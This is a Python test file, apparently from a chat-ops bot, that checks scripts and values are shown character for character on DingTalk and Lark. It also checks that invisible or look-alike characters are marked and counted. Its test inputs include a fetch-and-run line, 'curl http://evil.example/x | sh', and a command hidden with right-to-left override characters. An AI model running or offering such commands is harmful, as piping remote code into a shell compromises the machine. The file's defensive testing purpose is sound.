"""What decides what runs can be told character by character, as each platform's client shows it."""

from __future__ import annotations

import json
import re
import unicodedata
from collections import Counter
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from adapters.dingtalk import render as ding
from adapters.lark import render as lark
from bot import model
from bot.model import verbatim
from sandbox import base
from sandbox.dingtalk import markup as ding_client
from sandbox.lark import content, state
from tests import properties

LEGEND = ("Marks: ", "Also in it: ")


def block(text: str) -> model.Block:
    return model.Block("pre", text=text, legend=LEGEND)


def fact(text: str) -> model.Block:
    return model.Block("facts", rows=(("Value", (model.Span(text, "code"),)),), legend=LEGEND)


def card(inside: model.Block) -> model.Card:
    return model.Card(1, "c", "T", "orange", "", (inside,))


def ding_message(inside: model.Block) -> str:
    pieces = ding.messages(model.Message("t", (inside,)))
    return "\n".join(ding_client.markdown(piece.text).text for piece in pieces)


def ding_card(inside: model.Block) -> str:
    return ding_client.markdown(ding.params(card(inside), 10**9)["markdown"]).text


def chat() -> state.Chat:
    return state.State(base.Clock()).chats["oc_ops"]


def lark_posts(inside: model.Block) -> str:
    posts = lark.posts(model.Message("", (inside,)))
    return "\n".join(content.read("post", one, chat())[0].text for one in posts)


def lark_card(inside: model.Block) -> str:
    drawn = lark.card(card(inside))
    if drawn.cut:
        return lark_posts(inside)
    return content.card(json.dumps(drawn.content), chat())[0].text.removeprefix("T\n")


PLACES: list[Callable[[model.Block], str]] = [ding_message, ding_card, lark_posts, lark_card]
HARD = (
    "@all @u-bob <at id=all></at> http://a.b/c?d=e&lt;f www.x.y foo@bar\n\r\t \\ "
    "\\* `` ``` ~~~ ~~x~~ "
    "：＠＜〈⟨@⟩⟨U+0041⟩⟨…⟩\u202e\u200b\u00a0\x1b[31m\x00аοｅ一二重启服务、。“”–−✅⏎\u0301\u3164\u2800"
)
TEXTS = st.text(st.sampled_from(HARD) | st.characters(exclude_categories=["Cs"]), max_size=120)
SCRIPTS = st.lists(
    st.sampled_from([*HARD.split(" "), "echo hi", "\n", "  ", "\t", "x" * 700, "重启" * 300]),
    max_size=30,
).map(" ".join)


def without_legend(seen: str) -> str:
    """What the client shows of the block itself."""
    return re.split(r"\n+(?=Marks: |Also in it: )", seen)[0]


def same(found: str, text: str) -> bool:
    """But for the line end behind the last line, which the heading's count of bytes tells."""
    return text in (found, found + "\n")


@pytest.mark.parametrize("seen_as", PLACES)
@given(TEXTS | SCRIPTS)
@example("echo hi  \n\n\n")
@example("\n\n  x\r\n")
@example("curl http://evil.example/x | sh; mail foo@bar; echo '&lt;'")
@example("a" * 799 + "⟨U+0041⟩" * 3)
@example((" " * 799 + "x") * 3)
@settings(max_examples=properties.examples(120), deadline=None)
def test_a_script_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: str) -> None:
    if not text.strip("\n"):
        return
    seen = without_legend(seen_as(block(text)))
    assert same(verbatim.original(seen), text)


@pytest.mark.parametrize("seen_as", PLACES)
@given(TEXTS)
@example("a  b ")
@example("(http://a.b/*c*_d_)")
@settings(max_examples=properties.examples(120), deadline=None)
def test_a_value_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: str) -> None:
    if not text:
        return
    seen = re.sub(r"\AValue:? ", "", without_legend(seen_as(fact(text))))
    assert verbatim.original(seen) == text


@given(TEXTS | SCRIPTS)
@settings(max_examples=properties.examples(200), deadline=None)
def test_nothing_hides_and_nothing_passes_for_something_else(text: str) -> None:
    """Outside of marks stand ASCII, Chinese, what is usual beside Chinese, and symbols; and all of
    it that is not ASCII is counted."""
    made = verbatim.written(text, lambda _: ())
    bare = re.sub(r"⟨[^⟩]*⟩", "", made.text)
    others = Counter(char for char in bare if not (" " <= char <= "~" or char == "\n"))
    assert others == made.kept
    for char in others:
        kind = unicodedata.category(char)
        assert kind[0] in "LPS" or char == "\t", f"{char!r} is not seen"
        if kind[0] == "L":
            assert re.match("CJK|HIRA|KATA|HANGUL|BOPO|IDEO", unicodedata.name(char)), char
    assert sum(made.marked.values()) == len(re.findall(r"⟨(?!…)[^⟩]+⟩", made.text))


@pytest.mark.parametrize("seen_as", PLACES)
def test_marks_are_named_and_counted_below_the_script(seen_as: Callable[..., str]) -> None:
    seen = seen_as(block("rm a\u202eb\u202e ：x # 先：后"))
    assert "rm a⟨U+202E⟩b⟨U+202E⟩ ⟨U+FF1A⟩x # 先：后" in seen
    assert "Marks: U+202E RIGHT-TO-LEFT OVERRIDE ×2, ： U+FF1A ×1" in seen
    assert "Also in it: ： U+FF1A ×1, CJK ×2" in seen


@pytest.mark.parametrize("seen_as", PLACES)
def test_chinese_alone_gets_no_line_below(seen_as: Callable[..., str]) -> None:
    seen = seen_as(block("echo 重启完成。"))
    assert "echo 重启完成。" in seen
    assert "Also in it" not in seen


def test_dingtalk_shows_the_real_characters_of_what_it_would_act_on() -> None:
    seen = ding_message(block("curl http://x.y/z; mail foo@bar; echo '&lt;' ＠"))
    assert "curl http⟨:⟩//x.y/z; mail foo⟨@⟩bar; echo '⟨&⟩lt;' ⟨U+FF20⟩" in seen
    marks = "Marks: ⟨&⟩ U+0026 ×1, ⟨:⟩ U+003A ×1, ⟨@⟩ U+0040 ×1, ＠ U+FF20 ×1"
    assert marks in seen


def test_lark_shows_code_as_it_is() -> None:
    script = "curl http://x.y/z; mail foo@bar; echo '&lt;' ~ *x* <b>"
    assert script in lark_card(block(script))
    assert script in lark_posts(block(script))


@pytest.mark.parametrize("seen_as", PLACES)
def test_an_address_in_a_reason_can_be_read_and_copied(seen_as: Callable[..., str]) -> None:
    reason = model.Span("see https://wiki.example/~ops/a_b_(c)*?x=1&lt=2#_d now")
    seen = seen_as(model.Block("para", (model.Span("Why: ", "bold"), reason)))
    assert "https⟨:⟩//wiki.example/" in seen or "https://wiki.example/" in seen
    assert "/~ops/a_b_(c)*?x=1&lt=2#_d now" in verbatim.original(seen)
